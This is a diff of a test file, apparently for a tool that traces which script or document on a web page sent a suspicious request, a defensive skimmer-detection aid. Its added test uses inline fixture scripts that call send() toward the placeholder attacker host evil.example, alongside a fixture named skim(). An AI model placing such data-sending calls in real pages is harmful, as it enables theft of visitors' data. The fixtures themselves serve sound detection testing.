@@ -128,7 +128,19 @@ describe('who sent it', () => {
     const scripts = [inline('a()\nb()', 10), inline('skim()\nsend()', 20), inline('c()', 30)];
     const stack = [{ url: PAGE, line: 21, column: 3 }];
     const [found] = findings(visit([request({ stack })], scripts));
-    expect(found?.sender).toEqual({ kind: 'script', url: PAGE, inline: true, sha256: scripts[1]?.sha256 });
+    expect(found?.sender).toEqual({ kind: 'script', url: PAGE, inline: true, sha256: scripts[1]?.sha256, by: 'stack' });
+  });
+
+  test('where only the network knew of it, the one script that names the destination', () => {
+    const naming = inline("send('//evil.example/c')", 5);
+    const others = [inline('a()', 1), script(`${SHOP}/app.js`, 'b()')];
+    const image = request({ kind: 'image' });
+    expect(findings(visit([image], [...others, naming]))[0]?.sender).toMatchObject({
+      by: 'mention',
+      sha256: naming.sha256,
+    });
+    const second = script(`${SHOP}/more.js`, "send('//evil.example/d')");
+    expect(findings(visit([image], [naming, second]))[0]?.sender).toEqual({ kind: 'document', url: PAGE });
   });
 
   test('the document, where a form was posted without a script', () => {
